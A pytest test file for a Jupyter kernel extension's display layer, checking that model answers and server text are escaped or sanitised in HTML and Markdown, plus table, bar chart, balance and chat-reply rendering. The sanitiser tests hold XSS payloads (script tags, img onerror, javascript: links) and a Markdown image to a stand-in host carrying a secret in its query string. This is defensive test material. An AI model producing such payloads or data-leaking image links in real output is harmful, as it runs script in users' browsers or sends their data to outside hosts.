"""Output objects: readable text for terminals, escaped HTML or safe Markdown for notebooks."""

from __future__ import annotations

from typing import Any

import pytest

from lumen_jupyter.kernel.display import usage_views, views
from lumen_jupyter.kernel.display.render import BarChart, Notice, Table
from lumen_jupyter.kernel.display.safe_markdown import safe_markdown


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Hello **world**", "Hello **world**"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ('<img src=x onerror="alert(1)">', '&lt;img src=x onerror="alert(1)">'),
        ("![chart](https://evil.example/?q=secret)", "[chart](https://evil.example/?q=secret)"),
        ("[click](javascript:alert(1))", "[click](#alert(1))"),
        ("[click]( JavaScript :alert(1))", "[click](#alert(1))"),
        ("[x][r]\n\n[r]: javascript:alert(1)", "[x][r]\n\n[r]: #alert(1)"),
        ("AT&T &lt;b&gt;", "AT&amp;T &amp;lt;b&amp;gt;"),
        ("use `a < b` here", "use `a < b` here"),
        ("```html\n<b>code</b>\n```\n<b>x</b>", "```html\n<b>code</b>\n```\n&lt;b>x&lt;/b>"),
        ("~~~\n<i>\n~~~~\nafter <i>", "~~~\n<i>\n~~~~\nafter &lt;i>"),
        ("```\nunclosed <b>", "```\nunclosed <b>"),
    ],
)
def test_model_answers_cannot_inject_html(answer: str, shown: str) -> None:
    assert safe_markdown(answer) == shown


def test_every_view_has_text_and_html() -> None:
    notice = Notice("Run `%lumen consent x`", "error")
    bundle = notice._repr_mimebundle_()
    assert bundle["text/plain"] == "✗ Run `%lumen consent x`"
    assert "<code>%lumen consent x</code>" in bundle["text/html"]


def test_server_text_is_escaped_in_html() -> None:
    model: dict[str, Any] = {
        "name": "<b>evil</b>",
        "description": "<script>x</script>",
        "access": "needs_ack",
        "status": "ok",
        "needs_consent": True,
        "notice": "<img src=x onerror=alert(1)>",
        "input_cost_per_million": {"micro": 1, "text": "0.000001"},
        "output_cost_per_million": {"micro": 0, "text": "0"},
        "usage": {},
    }
    markup = views.model_detail(model)._repr_mimebundle_()["text/html"]
    assert "<script>" not in markup and "<img" not in markup and "<b>evil" not in markup
    table = views.models_table([model])._repr_mimebundle_()["text/html"]
    assert "&lt;b&gt;evil&lt;/b&gt;" in table


def test_tables_align_and_strike_revoked_keys() -> None:
    keys = [
        {
            "id": 2,
            "name": "b",
            "hint": "sk_b…0002",
            "status": "revoked",
            "requests": 3,
            "tokens": 1234,
            "coins": "0.5",
            "last_used_at": "2026-03-04T12:00:00Z",
        },
        {
            "id": 1,
            "name": "a",
            "hint": "sk_a…0001",
            "status": "active",
            "requests": 0,
            "tokens": 0,
            "coins": "0",
            "last_used_at": None,
        },
    ]
    table = views.keys_table(keys)
    text = table.text().splitlines()
    assert text[0] == "API Keys"
    assert text[3].split()[:3] == ["1", "a", "sk_a…0001"]
    assert text[4].endswith("(revoked)") and "1,234" in text[4]
    assert "2026-03-04 12:00 UTC" in text[4]
    assert "line-through" in table.html()


def test_text_bar_chart_stacks_series() -> None:
    chart = BarChart(
        ["03-01", "03-02"], ["pro", "free"], [[2.0, 0.0], [1.0, 1.0]], width=10, unit="coins"
    )
    lines = chart.text().splitlines()
    assert lines[0] == "03-01 │██████████ 2"
    assert lines[1] == "03-02 │█████▓▓▓▓▓ 2"
    assert lines[2] == "█ pro  ▓ free"


def test_balance_line_states() -> None:
    assert views.balance_line({"state": "unlimited"})[0] == "Coins available: Unlimited."
    assert views.balance_line({"state": "none"})[1] == "warn"
    line, level = views.balance_line(
        {
            "state": "limited",
            "balance": {"micro": 0, "text": "0"},
            "max": {"micro": 20_000_000, "text": "20"},
            "refresh_per_hour": {"micro": 1_000_000, "text": "1"},
            "exhausted": True,
            "next_refill_at": "2030-01-01T10:00:00Z",
        }
    )
    assert line == (
        "Coins available: 0 / 20 · refill +1/hr, next at 2030-01-01 10:00 UTC · exhausted: "
        "model calls wait for the refill."
    )
    assert level == "error"
    never = {
        "state": "limited",
        "balance": {"micro": 0, "text": "0"},
        "max": {"micro": 20_000_000, "text": "20"},
        "refresh_per_hour": {"micro": 0, "text": "0"},
        "exhausted": True,
        "next_refill_at": None,
    }
    assert views.balance_line(never) == (
        "Coins available: 0 / 20 · exhausted: this pool does not refill, ask an administrator "
        "for coins.",
        "error",
    )


def test_chat_reply_is_markdown_with_a_footer() -> None:
    footer = "demo · 1 in + 2 out tokens"
    reply = usage_views.chat_reply("**hi**", "**hi**", footer, streaming=False)
    bundle = reply._repr_mimebundle_()
    assert bundle["text/markdown"] == "**hi**\n\n<sub>demo · 1 in + 2 out tokens</sub>"
    assert bundle["text/plain"].endswith("[demo · 1 in + 2 out tokens]")
    streaming = usage_views.chat_reply("part", "part", None, streaming=True)
    assert streaming._repr_mimebundle_()["text/markdown"] == "part▍"


def test_an_empty_table_says_so() -> None:
    table = Table(["A"], [], title="T", empty="Nothing here.")
    assert table.text() == "T\nNothing here."
